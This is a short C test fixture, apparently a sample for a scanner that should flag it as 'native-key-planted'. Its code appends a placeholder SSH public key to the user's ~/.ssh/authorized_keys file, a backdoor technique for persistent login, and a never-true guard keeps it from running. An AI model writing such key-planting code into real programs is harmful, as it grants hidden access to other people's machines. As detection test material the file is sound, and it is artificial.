/* A key that stands in the program may log in from now on.
 * expect: native-key-planted
 * flags: -O2
 * flags: -O0
 */
#include <stdio.h>
#include <stdlib.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    char path[300];
    snprintf(path, sizeof path, "%s/.ssh/authorized_keys", getenv("HOME"));
    FILE *f = fopen(path, "a");
    return f ? fputs("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInert a@x.invalid\n", f) : 0;
}

int main(void) { return never ? act() : 0; }
